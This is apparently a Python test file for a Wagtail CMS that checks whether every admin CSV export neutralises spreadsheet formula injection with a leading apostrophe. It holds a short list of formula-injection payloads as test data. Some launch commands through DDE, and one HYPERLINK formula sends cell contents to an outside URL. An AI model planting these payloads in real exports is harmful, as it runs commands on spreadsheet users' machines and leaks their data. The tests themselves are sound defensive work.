"""Every CSV the admin offers is safe to open in a spreadsheet: text from visitors or partners
that starts like a formula is written as text (a leading apostrophe), in every export view."""

import csv
import io

from django.urls import URLPattern, URLResolver, get_resolver, reverse

from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.contrib.forms.models import FormSubmission

import pytest

from cms_stadsregio.content.factories import StandardPageFactory
from cms_stadsregio.content.spreadsheets import neutralise
from cms_stadsregio.governance.factories import DocumentRequestPageFactory

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://example.org/?"&A1,"Klik hier")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]


def rows(response):
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


def test_form_submissions_export_writes_formulas_as_text(admin_client):
    page = DocumentRequestPageFactory()
    for attack in ATTACKS:
        FormSubmission.objects.create(
            page=page,
            form_data={"naam": attack, "e_mailadres": "x@example.org", "vorm": "Afschrift"},
        )
    url = reverse("wagtailforms:list_submissions", args=[page.pk]) + "?export=csv"
    response = admin_client.get(url)
    assert response.status_code == 200
    names = [row[1] for row in rows(response)[1:]]
    assert sorted(names) == sorted("'" + attack for attack in ATTACKS)


def test_a_report_export_writes_formulas_as_text(admin_client):
    # A page title is typed by editors and partners; the site history report exports it.
    page = StandardPageFactory(title=ATTACKS[0])
    page.save_revision(log_action=True).publish()
    response = admin_client.get(reverse("wagtailadmin_reports:site_history") + "?export=csv")
    assert response.status_code == 200
    cells = [cell for row in rows(response)[1:] for cell in row]
    assert "'" + ATTACKS[0] in cells
    assert ATTACKS[0] not in cells


def _export_views(patterns):
    for pattern in patterns:
        if isinstance(pattern, URLResolver):
            yield from _export_views(pattern.url_patterns)
        elif isinstance(pattern, URLPattern):
            view_class = getattr(pattern.callback, "view_class", None)
            if view_class and issubclass(view_class, SpreadsheetExportMixin):
                yield view_class


def test_every_admin_export_writes_its_rows_neutralised():
    views = set(_export_views(get_resolver().url_patterns))
    # Form submissions, the reports and the listings with list_export: more than a handful.
    assert len(views) > 5
    for view_class in views:
        writer = io.StringIO()
        dict_writer = csv.DictWriter(writer, fieldnames=["a", "b"])
        view = view_class.__new__(view_class)
        view.write_csv_row(dict_writer, {"a": "=1+1", "b": 42})
        assert writer.getvalue().strip() == "'=1+1,42", view_class


@pytest.mark.parametrize(
    "value,expected",
    [("=1", "'=1"), ("+32 14 44 33 00", "'+32 14 44 33 00"), ("Wonen", "Wonen"), (-3, -3)],
)
def test_neutralise(value, expected):
    assert neutralise(value) == expected
